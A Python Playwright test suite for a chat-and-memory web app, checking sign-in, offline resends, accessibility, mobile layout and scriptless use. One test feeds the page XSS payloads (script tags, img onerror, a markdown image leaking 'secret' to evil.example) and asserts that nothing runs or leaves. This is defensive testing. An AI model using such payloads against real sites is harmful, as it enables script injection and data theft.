"""The web page in a real browser: as people use it, by keyboard, on small screens, without a script, and with axe."""

from __future__ import annotations

import re
import secrets
import time
from typing import Any

import pytest
from axe_playwright_python.async_playwright import Axe
from playwright.async_api import Browser, expect
from playwright.async_api import Page as Shown

from gateway.page.markdown import rendered
from gateway.page.visitors import leave_code
from tests.browser.conftest import Opening
from tests.kit.browser import MISSING, found
from tests.kit.visit import USED, Guest, Page

# One loop for all, as they share a browser and a served page.
pytestmark = [
    pytest.mark.campaign,
    pytest.mark.asyncio(loop_scope="session"),
    pytest.mark.skipif(found() is None, reason=MISSING),
]
PATHS = (
    "/chat/main", "/chat/main?at=2", "/search", "/search?q=Bern", "/memory", "/memory?q=Bern", "/timeline", "/entities",
    "/night", "/questions", "/reminders", "/me", "/nowhere",
)  # fmt: skip


async def lived_in(guest: Guest) -> list[str]:
    for text in ("I live in Bern", "My sister is called Marta Keller", "I am allergic to nuts", "Where do I live?",
                 "remind me tomorrow at 9 to water the plants"):  # fmt: skip
        await guest.say(text)
    one = (await guest.get("/memory?q=Bern")).text.partition('href="/memory/')[2].partition('"')[0]
    turn = (await guest.get("/chat/main")).text.partition('href="/why/')[2].partition('"')[0]
    name = (await guest.get("/entities")).text.partition('<a href="/entities/')[2].partition('"')[0]
    return [*PATHS, f"/memory/{one}", f"/why/{turn}", f"/entities/{name}"]


async def say(shown: Shown, text: str) -> None:
    await shown.fill("#text", text)
    await shown.press("#text", "Enter")


async def test_the_link_signs_in_and_tells_whom(page: Page, browser: Browser) -> None:
    """The code leaves the address bar before anything else happens, and works once."""
    code = secrets.token_urlsafe(8)
    leave_code(page.data, code, "Ada Link")
    context = await browser.new_context(base_url=page.url)
    shown = await context.new_page()
    await shown.goto(f"/in#{code}")
    button = shown.get_by_role("button", name="Continue as Ada Link")
    await button.wait_for()
    assert code not in shown.url
    await button.click()
    await shown.wait_for_url("**/chat/main#end")
    await shown.goto(f"/in#{code}")
    await expect(shown.get_by_role("alert")).to_contain_text("not valid")
    await context.close()


async def test_an_answer_grows_in_every_tab(opening: Opening) -> None:
    """And stands there once, also after the page is loaded again."""
    first, _ = await opening("tabs")
    second = await first.context.new_page()
    for shown in (first, second):
        await shown.goto("/chat/main")
    await say(first, "I live in Bern")
    for shown in (first, second):
        await expect(shown.locator(".item.mine")).to_have_count(1)
        await expect(shown.locator(".item.theirs:not(.growing)")).to_have_count(1)
        await expect(shown.locator("#nothing")).to_have_count(0)
        await expect(shown.get_by_role("link", name="Why this answer?")).to_have_count(1)
    before = [text.split() for text in await first.locator(".item").all_text_contents()]
    await first.reload()
    await expect(first.locator(".item")).to_have_count(2)
    assert [text.split() for text in await first.locator(".item").all_text_contents()] == before
    assert await first.input_value("#text") == ""


async def test_a_lost_connection_comes_back_and_brings_what_was_missed(opening: Opening) -> None:
    shown, guest = await opening("lost")
    await shown.goto("/chat/main")
    await say(shown, "I play chess")
    await expect(shown.get_by_role("link", name="Why this answer?")).to_have_count(1)
    await shown.context.set_offline(True)
    await guest.say("I play the oboe")
    await shown.context.set_offline(False)
    await expect(shown.locator(".item.mine")).to_have_count(2)
    await expect(shown.get_by_role("link", name="Why this answer?")).to_have_count(2)


async def test_a_message_that_is_not_sent_stays_and_says_so(opening: Opening) -> None:
    """With a way to send it again; what is typed meanwhile is another message."""
    shown, _ = await opening("offline")
    await shown.goto("/chat/main")
    await expect(shown.locator("#nothing")).to_be_visible()
    await shown.context.set_offline(True)
    await say(shown, "do not lose this")
    unsent = shown.locator(".item.failed")
    await expect(unsent.get_by_role("alert")).to_have_text("This was not sent. Try again.")
    await say(shown, "take this back")
    await expect(unsent).to_have_count(2)
    await unsent.last.get_by_role("button", name="Remove").click()
    await shown.fill("#text", "and another thing")
    await shown.context.set_offline(False)
    # It goes by itself once there is a connection again.
    await expect(unsent).to_have_count(0)
    await expect(shown.locator(".item.mine")).to_have_count(1)
    await expect(shown.get_by_role("link", name="Why this answer?")).to_have_count(1)
    assert await shown.input_value("#text") == "and another thing"
    await shown.reload()
    await expect(shown.locator(".item.mine")).to_contain_text("do not lose this")


async def test_a_selection_in_an_answer_that_grows_lasts(opening: Opening) -> None:
    """Only what is new is added; code of a whole answer can be copied."""
    shown, _ = await opening("grows")
    # The server knows nothing of this answer, so that a connection would remove it. One that is open outlasts `set_offline`.
    await shown.route(re.compile(r"/(events|log)\?"), lambda route: route.abort())
    await shown.goto("/chat/main")
    await expect(shown.locator("#state")).to_have_text("The connection is lost. Trying again …")

    async def show(text: str, state: str) -> None:
        html = f'<article id="a9" class="item theirs {state}"><div class="words">{rendered(text)}</div></article>'
        await shown.evaluate("item => showItem(item)", {"key": "a9", "html": html})

    await show("First part.\n\nSecond", "growing")
    await shown.evaluate("getSelection().selectAllChildren(document.querySelector('#a9 p'))")
    await shown.evaluate(
        "getSelection().setBaseAndExtent(document.querySelector('#a9 p').firstChild, 2, document.querySelector('#a9 p:last-child').firstChild, 3)"
    )
    await show("First part.\n\nSecond part\n\n```py\nx = 1\n```", "growing")
    await expect(shown.locator("#a9 pre")).to_have_count(1)
    await expect(shown.locator("#a9 .copy")).to_have_count(0)
    await show("First part.\n\nSecond part\n\n```py\nx = 1\n```\n\nEnd.", "")
    assert await shown.evaluate("getSelection().toString()") == "rst part.\n\nSec"
    await shown.context.grant_permissions(["clipboard-read", "clipboard-write"])
    await shown.locator("#a9").get_by_role("button", name="Copy").click()
    await expect(shown.locator("#a9 .copy")).to_have_text("Copied")
    assert await shown.evaluate("navigator.clipboard.readText()") == "x = 1\n"


async def test_a_draft_outlives_a_reload_until_it_is_sent(opening: Opening) -> None:
    shown, _ = await opening("drafts")
    await shown.goto("/chat/main")
    await shown.locator("#text").press_sequentially("half a thought")
    await shown.reload()
    await expect(shown.locator("#text")).to_have_value("half a thought")
    await shown.press("#text", "Enter")
    await expect(shown.locator(".item.mine")).to_have_count(1)
    await shown.reload()
    await expect(shown.locator("#text")).to_have_value("")


async def test_enter_makes_a_line_where_fingers_type(opening: Opening) -> None:
    shown, _ = await opening("fingers", has_touch=True, is_mobile=True, viewport={"width": 390, "height": 800})
    await shown.goto("/chat/main")
    await shown.locator("#text").press_sequentially("one")
    await shown.press("#text", "Enter")
    await shown.locator("#text").press_sequentially("two")
    await expect(shown.locator("#text")).to_have_value("one\ntwo")
    await shown.locator("#send").tap()
    await expect(shown.locator(".item.mine")).to_contain_text("two")


async def test_a_question_is_answered_by_its_button(opening: Opening) -> None:
    """Forgetting from the conversation: asked, pressed, gone, also when going back."""
    shown, _ = await opening("forgets")
    await shown.goto("/chat/main")
    await say(shown, "/remember the safe is behind the mirror")
    await expect(shown.locator(".item.theirs")).to_have_count(1)
    await say(shown, "/forget mirror")
    await shown.locator(".buttons button").first.click()
    await expect(shown.locator(".item.theirs").last).to_contain_text("Forgotten")
    await expect(shown.locator(".buttons")).to_have_count(0)
    await shown.goto("/memory")
    await expect(shown.locator("main")).not_to_contain_text("mirror")


async def test_a_file_is_sent_and_an_export_saved(opening: Opening) -> None:
    shown, _ = await opening("files")
    await shown.goto("/chat/main")
    file: Any = {"name": "notes.txt", "mimeType": "text/plain", "buffer": b"the pump is in the shed"}
    await shown.set_input_files("input[type=file]", file)
    await expect(shown.locator("#files")).to_have_text("notes.txt")
    await say(shown, "look at this")
    await expect(shown.locator(".item.mine")).to_contain_text("notes.txt")
    await expect(shown.locator("#files")).to_have_text("")
    await shown.goto("/me")
    async with shown.expect_download() as saved:
        await shown.get_by_role("button", name="Export everything").click()
    assert (await saved.value).suggested_filename


async def test_a_search_finds_while_one_types(opening: Opening) -> None:
    shown, guest = await opening("searches")
    await lived_in(guest)
    await shown.goto("/memory")
    await expect(shown.locator(".told")).not_to_have_count(1)
    await shown.locator("#q").press_sequentially("allergic")
    await expect(shown.locator(".list").first.locator(".told")).to_have_count(1)
    await expect(shown.locator("#found")).to_contain_text("nuts")
    await expect(shown).to_have_url(re.compile("q=allergic"))
    assert await shown.input_value("#q") == "allergic"


async def test_a_memory_is_corrected_pinned_and_forgotten_and_stays_gone(opening: Opening) -> None:
    """Back shows nothing that was forgotten: no page is kept by the browser."""
    shown, guest = await opening("corrects")
    await lived_in(guest)
    await shown.goto("/memory?q=Bern")
    await shown.locator(".told a").first.click()
    await shown.get_by_role("button", name="Pin").click()
    await expect(shown.locator(".receipt")).to_contain_text("Pinned: you live in Bern.")
    await expect(shown.locator(".badges")).to_contain_text("pinned")
    await shown.get_by_text("Correct it").click()
    await shown.fill("#value", "Thun")
    await shown.get_by_role("button", name="Save").click()
    await expect(shown.locator(".receipt")).to_contain_text("Corrected")
    await expect(shown.locator("h1")).to_have_text("You live in Thun")
    await expect(shown.locator(".versions ins")).to_have_text("Thun")
    await shown.get_by_role("button", name="Forget").click()
    await expect(shown.locator(".buttons button")).to_have_text(["Forget it", "Keep it"])
    await shown.locator(".buttons button").first.click()
    await expect(shown.locator(".receipt")).to_contain_text("Forgotten")
    # Two forms back stands the memory itself.
    await shown.evaluate("history.go(-2)")
    await expect(shown.get_by_role("alert")).to_contain_text("no such memory")
    await expect(shown.locator("main")).not_to_contain_text("Thun")


async def test_why_leads_to_the_memory_and_back(opening: Opening) -> None:
    shown, guest = await opening("asks")
    await lived_in(guest)
    await shown.goto("/chat/main")
    await shown.get_by_role("link", name="Why this answer?").last.click()
    await expect(shown.locator("blockquote").first).to_contain_text("Where do I live?")
    await shown.get_by_role("link", name="You live in Bern").first.click()
    await expect(shown.locator("section", has_text="Answers that used it")).to_contain_text("Where do I live?")


async def test_everything_works_by_keyboard_alone(opening: Opening) -> None:
    """From the top of the page: skip, say, and reach the memory by its link."""
    shown, _ = await opening("keys")
    await shown.goto("/memory")
    await shown.keyboard.press("Tab")
    assert await shown.evaluate("document.activeElement.className") == "skip"
    await shown.keyboard.press("Enter")
    assert await shown.evaluate("document.activeElement.id") == "main"
    await shown.locator("#tell").focus()
    await shown.keyboard.type("I row on Sundays")
    await shown.keyboard.press("Enter")
    await expect(shown.locator(".receipt")).to_contain_text("Saved")
    seen = set()
    for _step in range(14):
        await shown.keyboard.press("Tab")
        seen.add(await shown.evaluate("document.activeElement.getAttribute('href')"))
    assert {"/chat", "/memory", "/me"} <= seen
    outlined = await shown.evaluate("getComputedStyle(document.activeElement).outlineStyle")
    assert outlined == "solid", "one sees where one is"


@pytest.mark.parametrize("theme", ["light", "dark"])
async def test_no_page_has_a_barrier(opening: Opening, theme: str) -> None:
    """Every page passes the rules of WCAG that axe knows, with names long enough to break things."""
    shown, guest = await opening(f"axe {theme}", color_scheme=theme)
    axe = Axe()
    for path in [*await lived_in(guest), "/in"]:
        await shown.goto(path)
        found = await axe.run(shown)
        assert found.violations_count == 0, f"{path}: {found.generate_report()}"


async def test_nothing_is_cut_off_on_the_smallest_screen(page: Page, opening: Opening) -> None:
    """No page is wider than 320 pixels, also with a word or a line of code without end; what is pressed is large."""
    shown, guest = await opening("small", viewport={"width": 320, "height": 560})
    await guest.told("/memory", at="/memory", value=f"My password hint is {'x' * 120}")
    paths = await lived_in(guest)
    code = f"```\n{'some code ' * 30}\n```\n\n|a|b|\n|-|-|\n|{'x' * 90}|y|"
    last = "update messages set text = ? where id = (select max(id) from messages where role = 'assistant')"
    await page.alter((last, [code]))
    for path in paths:
        await shown.goto(path)
        wide = await shown.evaluate("document.documentElement.scrollWidth")
        over = "[...document.querySelectorAll('body *')].filter(each => each.getBoundingClientRect().right > 320.5)"
        assert wide <= 320, (
            f"{path} is {wide} wide: {await shown.evaluate(f'{over}.map(each => each.outerHTML.slice(0, 80))')}"
        )
        low = await shown.evaluate(
            "[...document.querySelectorAll('button, .button, nav a, summary')].filter(each => each.offsetParent)"
            ".map(each => [each.textContent.trim(), each.getBoundingClientRect().height]).filter(each => each[1] < 32)"
        )
        assert low == [], path
    await shown.goto("/chat/main")
    await expect(shown.locator("#log pre")).to_have_count(1)
    assert await shown.evaluate("(log => log.scrollWidth <= log.clientWidth)(document.getElementById('log'))")
    assert await shown.locator("#text").is_visible() and await shown.locator("#send").is_visible()


@pytest.mark.parametrize("theme", ["light", "dark"])
async def test_the_pages_of_admins_have_no_barrier_and_fit_a_phone(page: Page, opening: Opening, theme: str) -> None:
    """With tokens and costs to draw, and a question that waits."""
    shown, guest = await opening("you", color_scheme=theme, viewport={"width": 320, "height": 600})
    await guest.say("I play the oboe")
    await guest.say("/forget oboe")
    await page.alter((USED, ["chat", 7_000, 0.25, int(time.time() * 1000)]))
    axe = Axe()
    for path in ("/admin", "/admin/jobs", "/admin/usage", "/admin/dead", "/admin/people", "/admin/log", "/questions"):
        await shown.goto(path)
        await expect(shown.locator("h1")).to_be_visible()
        found = await axe.run(shown)
        assert found.violations_count == 0, f"{path}: {found.generate_report()}"
        assert await shown.evaluate("document.documentElement.scrollWidth") <= 320, path
    await shown.get_by_role("button", name="Keep it").click()
    await expect(shown).to_have_url(re.compile("/chat/main"))
    await shown.goto("/admin/usage")
    await expect(shown.locator(".plot")).to_have_count(4)
    await shown.goto("/admin")
    await shown.get_by_role("button", name="Back up now").click()
    await expect(shown.locator(".receipt")).to_contain_text("Backed up")


@pytest.mark.parametrize("locale", ["de-DE", "es-ES", "fr-FR"])
async def test_the_menu_shows_all_of_itself_on_a_phone(opening: Opening, locale: str) -> None:
    """At 360 pixels, for an admin, whose menu is the longest."""
    shown, _ = await opening("you", locale=locale, viewport={"width": 360, "height": 640})
    for path in ("/memory", "/chat/main"):
        await shown.goto(path)
        links = await shown.evaluate(
            "[...document.querySelectorAll('.top nav a')].map(each => { const at = each.getBoundingClientRect();"
            " return [each.textContent, at.left, at.right, at.height]; })"
        )
        assert len(links) == 5, links
        assert [one for one in links if one[1] < 0 or one[2] > 360 or one[3] < 44] == []
        assert await shown.evaluate("document.querySelector('.top').offsetHeight") <= 64
        assert await shown.evaluate("(nav => nav.scrollWidth <= nav.clientWidth)(document.querySelector('.top nav'))")


@pytest.mark.parametrize("script", [True, False], ids=["script", "plain"])
async def test_names_are_drawn_around_the_visitor_and_listed(opening: Opening, script: bool) -> None:
    """On a phone: moved and enlarged by the script, scrolled without it; the list says the same."""
    shown, guest = await opening(f"names {script}", viewport={"width": 390, "height": 780}, java_script_enabled=script)
    for text in ("My sister is called Marta Keller", "Marta Keller works at Acme", "I live in Bern"):
        await guest.told("/memory", at="/memory", value=text)
    await shown.goto("/entities")
    await expect(shown.locator(".relations .told")).to_have_text(
        [re.compile("You sister Marta Keller"), re.compile("Marta Keller works at Acme"), re.compile("You home Bern")]
    )
    await expect(shown.locator(".graph text.words")).to_have_text(["sister", "works at", "home"])
    middle = await shown.locator(".graph circle.you").bounding_box()
    assert middle is not None
    if not script:
        assert await shown.evaluate("(box => box.scrollWidth > box.clientWidth)(document.querySelector('figure'))")
        return
    assert abs(middle["x"] + middle["width"] / 2 - 195) < 2, "the visitor is in the middle"
    await shown.get_by_role("button", name="Zoom in").click()
    larger = await shown.locator(".graph circle.you").bounding_box()
    assert larger is not None and larger["width"] > middle["width"] * 1.2
    await shown.mouse.move(195, 400)
    await shown.mouse.down()
    await shown.mouse.move(135, 400, steps=4)
    await shown.mouse.up()
    moved = await shown.locator(".graph circle.you").bounding_box()
    assert moved is not None and abs(larger["x"] - moved["x"] - 60) < 3
    await shown.get_by_role("button", name="Show all of it").click()
    inside = "[...document.querySelectorAll('.graph circle')].every(each => (at => at.left >= 0 && at.right <= 390)(each.getBoundingClientRect()))"
    assert await shown.evaluate(inside)
    await shown.locator(".graph a", has_text="Acme").click()
    await expect(shown.locator("h1")).to_have_text("Acme")


async def test_what_was_said_is_forgotten_from_beside_its_answer(opening: Opening) -> None:
    shown, _ = await opening("beside")
    await shown.goto("/chat/main")
    for number, text in enumerate(("My boat is called Nix", "I live in Bern", "Where do I live?")):
        await say(shown, text)
        await expect(shown.get_by_role("link", name="Why this answer?")).to_have_count(number + 1)
    await shown.get_by_role("button", name="Forget what I said …").first.click()
    await shown.locator(".buttons button").first.click()
    await expect(shown.locator(".item.theirs").last).to_contain_text("Forgotten")
    await expect(shown.locator("#log")).to_contain_text("Bern")
    await shown.get_by_role("link", name="Something wrong?").last.click()
    await expect(shown.locator("h1")).to_have_text("Which of these is wrong?")
    await shown.locator(".correct input[name=value]").first.fill("Thun")
    await shown.get_by_role("button", name="Save").first.click()
    await shown.goto("/memory")
    await expect(shown.locator("main")).to_contain_text("Thun")
    await expect(shown.locator("main")).not_to_contain_text("Nix")


async def test_without_a_script_one_reads_talks_and_forgets(opening: Opening) -> None:
    shown, _ = await opening("plain", java_script_enabled=False)
    await shown.goto("/chat/main")
    await shown.fill("#text", "/remember the ladder is at Kurt's")
    await shown.click("#send")
    await expect(shown.locator(".item.theirs")).to_contain_text("ladder")
    await shown.goto("/memory")
    await shown.fill("#q", "ladder")
    await shown.get_by_role("button", name="Search").click()
    await shown.locator(".told a").first.click()
    await shown.get_by_role("button", name="Forget").click()
    await shown.locator(".buttons button").first.click()
    await expect(shown.locator(".receipt")).to_contain_text("Forgotten")


async def test_hostile_words_do_nothing(page: Page, opening: Opening) -> None:
    """No request leaves this machine, nothing pops up, and no rule of the page is broken."""
    shown, guest = await opening("<img src=x onerror=alert(1)>")
    asked: list[str] = []
    shown.on("request", lambda request: asked.append(request.url))
    shown.on("dialog", lambda dialog: asked.append(f"dialog {dialog.message}"))
    await shown.goto("/chat/main")
    for text in (
        "<script>alert(1)</script>",
        "![x](https://evil.example/?q=secret)",
        "<img src=https://evil.example onerror=alert(1)>",
    ):
        await say(shown, text)
        await guest.post("/memory", at="/memory", value=f"My friend is called {text}")
    await expect(shown.locator(".item.mine")).to_have_count(3)
    for path in await lived_in(guest):
        await shown.goto(path)
    assert [url for url in asked if not url.startswith(page.url)] == []


async def test_signing_out_ends_the_open_tabs(opening: Opening) -> None:
    shown, guest = await opening("leaves")
    await shown.goto("/chat/main")
    await say(shown, "hello")
    await expect(shown.locator(".item.theirs:not(.growing)")).to_have_count(1)
    other = await shown.context.new_page()
    await other.goto("/chat/main")
    await guest.post("/out", at="/me", which="all")
    await say(shown, "am I still here?")
    # The words stay where they were typed; a tab without any goes to the door.
    await expect(shown.locator(".item.failed")).to_contain_text("am I still here?")
    await expect(shown.locator(".item.failed").get_by_role("link", name="Sign in again")).to_have_count(1)
    await other.bring_to_front()
    await other.wait_for_url("**/in")
